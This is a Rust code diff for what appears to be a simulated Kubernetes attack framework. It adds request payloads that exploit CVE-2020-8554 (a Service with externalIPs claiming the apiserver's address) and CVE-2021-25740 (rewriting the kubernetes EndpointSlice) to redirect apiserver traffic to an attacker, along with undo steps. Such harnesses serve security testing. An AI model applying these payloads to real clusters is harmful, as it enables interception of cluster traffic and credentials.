@@ -2,10 +2,10 @@
 
 use crate::holdings;
 use ravelin_adversary::{
-    Ask, Attacker, Claim, ClientProof, Holdings, ServerKind, Speaks, Target, TokenShape, Transport,
+    Ask, Attacker, Claim, ClientProof, Holdings, NodeAt, ServerKind, Speaks, Target, TokenShape, Transport,
 };
 use ravelin_client::{Client, Credential};
-use ravelin_cluster::{Cluster, Demo, DemoPod, PortAt, WEB_HTTP_PORT, WEB_HTTPS_PORT, Who};
+use ravelin_cluster::{Cluster, Demo, DemoPod, PortAt, TENANT_NAMESPACE, WEB_HTTP_PORT, WEB_HTTPS_PORT, Who};
 use ravelin_pki::{San, Subject};
 use ravelin_sim::World;
 use serde_json::json;
@@ -99,6 +99,7 @@ impl Stage {
             treasures: Vec::new(),
             is_asked_directly: false,
             claims: Vec::new(),
+            nodes: self.other_nodes(),
             token: TokenShape::None,
             stale: Vec::new(),
             elsewhere: None,
@@ -133,6 +134,13 @@ impl Stage {
             client: cluster.subject(who),
             asks: vec![ask.clone()],
             apiserver_ask: ask,
+            claims: match who {
+                Who::Node(_) | Who::Proxy(_) => {
+                    vec![claim_of_external_address(cluster.apiserver_address())]
+                }
+                Who::Pod(_) => vec![claim_of_kubernetes_endpoints(cluster.apiserver_address())],
+                _ => Vec::new(),
+            },
             ends: (
                 client.host().addresses().into_iter().collect(),
                 BTreeSet::from([cluster.apiserver_address().ip()]),
@@ -206,6 +214,13 @@ impl Stage {
         }
     }
 
+    /// The nodes that are not the attacker's.
+    fn other_nodes(&self) -> Vec<NodeAt> {
+        let members = self.cluster.layout().members();
+        let machines = self.cluster.layout().honest().into_iter().map(|node| &members[node].machine);
+        machines.map(|node| NodeAt { name: node.name.clone(), address: node.address }).collect()
+    }
+
     /// The addresses that the attacker speaks from.
     pub fn attackers_addresses(&self) -> BTreeSet<IpAddr> {
         self.holdings.address().into_iter().collect()
@@ -246,15 +261,12 @@ fn claim_of_node(pod: &DemoPod) -> Claim {
             {"type": "Hostname", "address": address},
         ]}})
     };
-    Claim {
-        what: format!("the address of {}", pod.node),
-        path: format!("/api/v1/nodes/{}/status", pod.node),
-        patch: addresses(Claim::HERE),
-        undo: json!({"status": {"addresses": [
-            {"type": "InternalIP", "address": pod.node_address},
-            {"type": "Hostname", "address": pod.node},
-        ]}}),
-    }
+    let back = json!({"status": {"addresses": [
+        {"type": "InternalIP", "address": pod.node_address},
+        {"type": "Hostname", "address": pod.node},
+    ]}});
+    let path = format!("/api/v1/nodes/{}/status", pod.node);
+    Claim::patch(format!("the address of {}", pod.node), &path, (&addresses(Claim::HERE), &back))
 }
 
 /// Where the apiserver looks for a pod; one on the node's own network is looked for on the node.
@@ -263,10 +275,49 @@ fn claim_of_pod(pod: &DemoPod) -> Claim {
         return claim_of_node(pod);
     }
     let addresses = |address: &str| json!({"status": {"podIP": address, "podIPs": [{"ip": address}]}});
+    let path = format!("/api/v1/namespaces/{}/pods/{}/status", pod.namespace, pod.name);
+    let back = addresses(&pod.address.to_string());
+    Claim::patch(format!("the address of {}", pod.name), &path, (&addresses(Claim::HERE), &back))
+}
+
+/// Where nodes find the apiserver's own address: at whatever service claims it as an external one
+/// (CVE-2020-8554). The service has no selector; its endpoints are written by hand.
+fn claim_of_external_address(apiserver: SocketAddr) -> Claim {
+    const NAMESPACE: &str = TENANT_NAMESPACE;
+    let name = "claims-the-apiserver";
+    let metadata = json!({"name": name, "namespace": NAMESPACE});
+    let port = apiserver.port();
+    let service = json!({
+        "apiVersion": "v1", "kind": "Service", "metadata": metadata,
+        "spec": {"externalIPs": [apiserver.ip()], "ports": [{"name": "https", "port": port, "protocol": "TCP"}]},
+    });
+    let slice = json!({
+        "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice",
+        "metadata": {"name": name, "namespace": NAMESPACE, "labels": {"kubernetes.io/service-name": name}},
+        "addressType": "IPv4",
+        "endpoints": [{"addresses": [Claim::HERE], "conditions": {"ready": true}}],
+        "ports": [{"name": "https", "port": port, "protocol": "TCP"}],
+    });
+    let services = format!("/api/v1/namespaces/{NAMESPACE}/services");
+    let slices = format!("/apis/discovery.k8s.io/v1/namespaces/{NAMESPACE}/endpointslices");
+    let what = "a service at the apiserver's address";
     Claim {
-        what: format!("the address of {}", pod.name),
-        path: format!("/api/v1/namespaces/{}/pods/{}/status", pod.namespace, pod.name),
-        patch: addresses(Claim::HERE),
-        undo: addresses(&pod.address.to_string()),
+        what: what.to_owned(),
+        make: vec![Ask::post(&services, Some(&service), what), Ask::post(&slices, Some(&slice), what)],
+        undo: vec![
+            Ask::delete(&format!("{slices}/{name}"), what),
+            Ask::delete(&format!("{services}/{name}"), what),
+        ],
     }
+}
+
+/// Where pods find the apiserver behind the `kubernetes` service: at the endpoints that whoever may
+/// write them says (CVE-2021-25740).
+fn claim_of_kubernetes_endpoints(apiserver: SocketAddr) -> Claim {
+    let endpoints =
+        |address: &str| json!({"endpoints": [{"addresses": [address], "conditions": {"ready": true}}]});
+    let path = "/apis/discovery.k8s.io/v1/namespaces/default/endpointslices/kubernetes";
+    let back = endpoints(&apiserver.ip().to_string());
+    let what = "the endpoints of the kubernetes service".to_owned();
+    Claim::patch(what, path, (&endpoints(Claim::HERE), &back))
 }
